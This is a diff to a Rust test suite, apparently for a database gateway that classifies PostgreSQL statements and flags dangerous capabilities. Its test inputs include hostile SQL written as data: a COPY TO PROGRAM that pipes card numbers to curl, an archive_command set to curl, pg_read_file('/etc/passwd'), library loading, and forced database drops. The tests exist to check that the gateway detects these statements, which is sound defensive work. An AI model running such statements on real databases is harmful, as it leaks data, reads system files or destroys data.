@@ -176,21 +176,230 @@ fn tautological_where_is_no_where() {
 }
 
 #[test]
-fn unclassified_statements_say_which_construct() {
+fn what_neither_parser_accepts_is_unparsed_and_says_which_construct() {
     for (sql, reason) in [
+        ("SELEC 1", "SELEC"),
         (
-            "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO agent",
-            "ALTER DEFAULT PRIVILEGES is not supported",
+            "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON WIDGETS TO agent",
+            "ALTER DEFAULT PRIVILEGES does not parse as PostgreSQL: syntax error at or near",
         ),
-        ("LOCK TABLE app.orders", "LOCK TABLE is not supported"),
     ] {
         let s = one(sql);
         assert_eq!(s.kind, PgKind::Unparsed, "{sql}");
+        assert!(s.fallback.is_none(), "{sql}");
         let e = s.parse_error.unwrap_or_default();
-        assert!(e.starts_with(reason), "{sql}: {e}");
+        assert!(e.contains(reason), "{sql}: {e}");
     }
     assert_eq!(one("VACUUM app.orders").kind, PgKind::Other);
     assert_eq!(one("NOTIFY ch").kind, PgKind::Other);
+}
+
+/// Statements the full classifier cannot parse or does not model are classified by
+/// PostgreSQL's grammar: kind, objects, calls and capabilities, marked `fallback`.
+#[test]
+fn postgres_grammar_classifies_what_sqlparser_cannot() {
+    struct Want {
+        kind: PgKind,
+        read: &'static [&'static str],
+        written: &'static [&'static str],
+        target: Option<&'static str>,
+        dangerous: &'static [&'static str],
+        privilege: Option<&'static str>,
+    }
+    const fn w(kind: PgKind) -> Want {
+        Want {
+            kind,
+            read: &[],
+            written: &[],
+            target: None,
+            dangerous: &[],
+            privilege: None,
+        }
+    }
+    let cases: Vec<(&str, Want)> = vec![
+        (
+            "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO agent",
+            Want {
+                privilege: Some("grant"),
+                ..w(PgKind::Grant)
+            },
+        ),
+        (
+            "ALTER DEFAULT PRIVILEGES FOR ROLE dba REVOKE ALL ON TABLES FROM agent",
+            Want {
+                privilege: Some("revoke"),
+                ..w(PgKind::Revoke)
+            },
+        ),
+        (
+            "LOCK TABLE app.orders IN ACCESS EXCLUSIVE MODE",
+            Want {
+                read: &["app.orders"],
+                ..w(PgKind::Other)
+            },
+        ),
+        (
+            "DROP DATABASE scratch WITH (FORCE)",
+            Want {
+                target: Some("scratch"),
+                ..w(PgKind::Drop)
+            },
+        ),
+        (
+            "DROP OWNED BY agent CASCADE",
+            Want {
+                privilege: Some("drop_owned"),
+                ..w(PgKind::Drop)
+            },
+        ),
+        (
+            "REASSIGN OWNED BY agent TO dba",
+            Want {
+                privilege: Some("reassign_owned"),
+                ..w(PgKind::Alter)
+            },
+        ),
+        (
+            "CREATE USER MAPPING FOR agent SERVER remote OPTIONS (user 'x', password 'y')",
+            Want {
+                dangerous: &["foreign_server"],
+                ..w(PgKind::Create)
+            },
+        ),
+        (
+            "ALTER TABLE app.orders SET SCHEMA archive",
+            Want {
+                written: &["app.orders"],
+                target: Some("app.orders"),
+                ..w(PgKind::Alter)
+            },
+        ),
+        (
+            "ALTER DATABASE app SET work_mem = '64MB'",
+            Want {
+                target: Some("app"),
+                ..w(PgKind::Alter)
+            },
+        ),
+        (
+            "ALTER SYSTEM SET archive_command = 'curl x'",
+            Want {
+                dangerous: &["alter_system"],
+                ..w(PgKind::Alter)
+            },
+        ),
+        (
+            "LOAD 'plugin'",
+            Want {
+                dangerous: &["load_library"],
+                ..w(PgKind::Other)
+            },
+        ),
+        (
+            "CREATE SUBSCRIPTION s CONNECTION 'host=elsewhere' PUBLICATION p",
+            Want {
+                dangerous: &["subscription"],
+                target: Some("s"),
+                ..w(PgKind::Create)
+            },
+        ),
+        // A query sqlparser cannot parse still names what it reads and calls.
+        (
+            "SELECT number FROM app.cards ORDER BY number USING <",
+            Want {
+                read: &["app.cards"],
+                ..w(PgKind::Select)
+            },
+        ),
+        (
+            "SELECT substring(c.number similar '%' escape '#'), pg_read_file('/etc/passwd') FROM app.cards c",
+            Want {
+                read: &["app.cards"],
+                dangerous: &["pg_read_file"],
+                ..w(PgKind::Select)
+            },
+        ),
+        // Writes hidden in a CTE of such a query decide its kind.
+        (
+            "WITH d AS (DELETE FROM app.orders RETURNING *) SELECT * FROM d ORDER BY id USING <",
+            Want {
+                read: &["app.orders", "d"],
+                written: &["app.orders"],
+                ..w(PgKind::Delete)
+            },
+        ),
+        (
+            "CREATE MATERIALIZED VIEW app.mv AS SELECT number FROM app.cards ORDER BY 1 USING <",
+            Want {
+                read: &["app.cards"],
+                written: &["app.mv"],
+                target: Some("app.mv"),
+                ..w(PgKind::Create)
+            },
+        ),
+        (
+            "COPY (SELECT number FROM app.cards ORDER BY 1 USING <) TO PROGRAM 'curl -d @- x'",
+            Want {
+                read: &["app.cards"],
+                dangerous: &["copy_program"],
+                ..w(PgKind::Copy)
+            },
+        ),
+        (
+            "EXPLAIN (ANALYZE) UPDATE app.orders SET n = 1 FROM app.cards c ORDER BY 1 USING <",
+            Want {
+                kind: PgKind::Unparsed,
+                ..w(PgKind::Unparsed)
+            },
+        ),
+    ];
+    for (sql, want) in cases {
+        let c = classify_all(sql).remove(0);
+        let s = &c.stmt;
+        assert_eq!(s.kind, want.kind, "{sql}: {s:?}");
+        if want.kind == PgKind::Unparsed {
+            continue;
+        }
+        assert!(s.fallback.is_some(), "{sql}: {s:?}");
+        let sorted = |v: &[String]| {
+            let mut v = v.to_vec();
+            v.sort();
+            v
+        };
+        assert_eq!(sorted(&s.tables_read), want.read, "{sql}");
+        assert_eq!(sorted(&s.tables_written), want.written, "{sql}");
+        if let Some(t) = want.target {
+            assert_eq!(s.ddl_target.as_deref(), Some(t), "{sql}");
+        }
+        for d in want.dangerous {
+            assert!(
+                s.dangerous.iter().any(|x| x == d),
+                "{sql}: {:?}",
+                s.dangerous
+            );
+        }
+        assert_eq!(s.privilege_change.as_deref(), want.privilege, "{sql}");
+        // Result columns are never traced: every one may hold any column.
+        assert!(
+            c.derived.columns(&["a", "b"], 2).iter().all(|x| x.opaque),
+            "{sql}: {:?}",
+            c.derived
+        );
+    }
+}
+
+/// Session changes the gateway follows are not guessed from the grammar.
+#[test]
+fn session_changes_the_fallback_cannot_follow_are_unresolved() {
+    for sql in ["SET search_path TO DEFAULT, app ORDER BY", "RESET ALL"] {
+        let s = one(sql);
+        if s.kind == PgKind::Unparsed || s.fallback.is_none() {
+            continue;
+        }
+        assert!(s.unresolved.is_some(), "{sql}: {s:?}");
+    }
+    let s = one("SELECT * FROM otherdb.app.cards ORDER BY 1 USING <");
+    assert!(s.unresolved.is_some_and(|u| u.contains("another database")));
 }
 
 #[test]
